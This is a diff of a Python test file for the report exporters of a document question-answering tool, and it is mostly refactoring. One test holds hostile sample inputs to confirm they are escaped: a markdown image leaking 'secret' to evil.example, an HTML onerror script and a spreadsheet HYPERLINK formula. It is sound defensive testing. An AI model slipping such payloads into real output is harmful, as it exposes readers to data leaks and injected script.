@@ -7,13 +7,17 @@ import io
 import json
 
 import pytest
-from conftest import PLANTED_PAGE, PLANTED_QUESTION, offline_traces, word_counter
+from conftest import PAPER_METHODS, PLANTED_PAGE, PLANTED_QUESTION, offline_traces, word_counter
 
 from rr_core.documents import Document
 from rr_core.exports import CSV_COLUMNS, to_csv, to_json, to_markdown
 from rr_core.llm import ScriptedClient
-from rr_core.methods import Method, RunSettings
-from rr_core.runs import RunTrace, run_methods
+from rr_core.methods import plan_method
+from rr_core.plans import Outcome
+from rr_core.runs import RunTrace, run_plans
+from rr_core.settings import RunSettings
+
+RETRIEVING = ("icr", "rr", "chunked-icr", "chunked-rr")
 
 FACT = "4.2 million euros"
 
@@ -26,28 +30,28 @@ def traces(planted_document: Document) -> list[RunTrace]:
 def test_json_export_holds_every_trace_with_prompts(traces: list[RunTrace]) -> None:
     data = json.loads(to_json(traces))
     results = data["results"]
-    assert [r["method"] for r in results] == [m.value for m in Method]
+    assert [r["method"] for r in results] == list(PAPER_METHODS)
     for result, trace in zip(results, traces):
         assert FACT in result["answer"] and result["page"] == PLANTED_PAGE
         assert result["cost_usd"] == pytest.approx(trace.cost_usd)
         assert len(result["calls"]) == len(trace.calls)
         assert all(c["prompt"] and c["response"] for c in result["calls"])
         assert RunTrace.from_dict(result).answer == trace.answer
-    rr = results[[m.value for m in Method].index("rr")]
+    rr = results[PAPER_METHODS.index("rr")]
     assert PLANTED_PAGE in rr["retrieved_pages"]
 
 
 def test_csv_export_has_one_row_per_method(traces: list[RunTrace]) -> None:
     rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
     assert list(rows[0]) == list(CSV_COLUMNS)
-    assert [r["method"] for r in rows] == [m.value for m in Method]
+    assert [r["method"] for r in rows] == list(PAPER_METHODS)
     for row, trace in zip(rows, traces):
         assert FACT in row["answer"]
         assert row["page"] == str(PLANTED_PAGE)
         assert int(row["calls"]) == len(trace.calls)
         assert int(row["input_tokens"]) == trace.usage.prompt_tokens
         assert float(row["cost_usd"]) == pytest.approx(trace.cost_usd, abs=1e-6)
-        if Method(row["method"]).retrieves:
+        if row["method"] in RETRIEVING:
             assert str(PLANTED_PAGE) in row["retrieved_pages"].split()
         else:
             assert row["retrieved_pages"] == ""
@@ -61,22 +65,25 @@ def test_markdown_report_cites_pages(traces: list[RunTrace]) -> None:
     for label in ("Baseline", "Reprompting", "ICR", "R&R", "Chunked ICR", "Chunked R&R"):
         assert f"| {label} |" in report
     table_rows = [line for line in report.splitlines() if line.startswith("| ") and FACT in line]
-    assert len(table_rows) == len(Method)
+    assert len(table_rows) == len(PAPER_METHODS)
     assert all(f"p. {PLANTED_PAGE}" in line for line in table_rows)
 
 
 def test_markdown_shows_errors_and_escapes_pipes(planted_document: Document) -> None:
     counter = word_counter()
     client = ScriptedClient(['{"answer": "a | b", "page": 3}', "no json here"])
-    traces = run_methods(
-        planted_document,
-        PLANTED_QUESTION,
-        [RunSettings(method=Method.BASELINE)],
-        client,
-        counter,
-    ) + run_methods(
-        planted_document, PLANTED_QUESTION, [RunSettings(method=Method.REPROMPT)], client, counter
-    )
+    traces = [
+        *run_plans(
+            planted_document,
+            [plan_method(planted_document, PLANTED_QUESTION, RunSettings(method="baseline"), counter)],
+            client,
+        ),
+        *run_plans(
+            planted_document,
+            [plan_method(planted_document, PLANTED_QUESTION, RunSettings(method="reprompt"), counter)],
+            client,
+        ),
+    ]
     report = to_markdown(traces)
     assert "a \\| b" in report and "p. 3" in report
     assert "error:" in report and "**Reprompting:**" in report
@@ -94,17 +101,20 @@ def test_text_from_documents_and_models_cannot_act_in_reports_or_spreadsheets() 
     from rr_core.exports import md_escape, to_csv, to_markdown
     from rr_core.runs import RunTrace
 
+    question = "What? ![x](https://evil.example/?d=secret)"
     hostile = RunTrace(
+        run_id="r1",
         method="rr",
-        question="What? ![x](https://evil.example/?d=secret)",
+        label="R&R",
+        describe="",
+        questions=[question],
         document="<img src=x onerror=alert(1)>.pdf",
         document_sha256="0" * 64,
         provider="offline",
         model="offline",
         is_llm=False,
-        settings={},
-        answer="=HYPERLINK(\"https://evil.example\", \"click\")",
-        page=3,
+        settings=RunSettings(),
+        outcomes=[Outcome(question=question, answer='=HYPERLINK("https://evil.example", "click")', page=3)],
     )
     report = to_markdown([hostile])
     import re
@@ -115,3 +125,29 @@ def test_text_from_documents_and_models_cannot_act_in_reports_or_spreadsheets() 
     assert md_escape("[a](b)") == "\\[a\\]\\(b\\)"
     rows = to_csv([hostile]).splitlines()
     assert "'=HYPERLINK" in rows[1]
+
+
+def test_the_same_method_at_two_settings_exports_two_rows_in_order(planted_document: Document) -> None:
+    small = offline_traces(planted_document, "rr", reminder_every=1_000)
+    large = offline_traces(planted_document, "rr", reminder_every=5_000)
+    traces = [*large, *small]
+    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
+    assert [r["method"] for r in rows] == ["rr", "rr"]
+    data = json.loads(to_json(traces))["results"]
+    assert [r["settings"]["reminder_every"] for r in data] == [5_000, 1_000]
+    assert [r["run_id"] for r in data] == [t.run_id for t in traces]
+
+
+def test_exports_cover_the_other_methods(planted_document: Document) -> None:
+    traces = offline_traces(
+        planted_document, "rag", "briefcontext", "closed-book", "oracle", gold_pages=(PLANTED_PAGE,)
+    )
+    report = to_markdown(traces)
+    for label in ("RAG", "BriefContext", "Closed-book", "Oracle"):
+        assert f"| {label} |" in report
+    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
+    assert [r["method"] for r in rows] == ["rag", "briefcontext", "closed-book", "oracle"]
+    assert rows[2]["answer"] == "n/a" and rows[3]["page"] == str(PLANTED_PAGE)
+    data = json.loads(to_json(traces))["results"]
+    assert data[1]["details"]["preflight"]["decision"] == "map-reduce"
+    assert [RunTrace.from_dict(r) for r in data] == traces
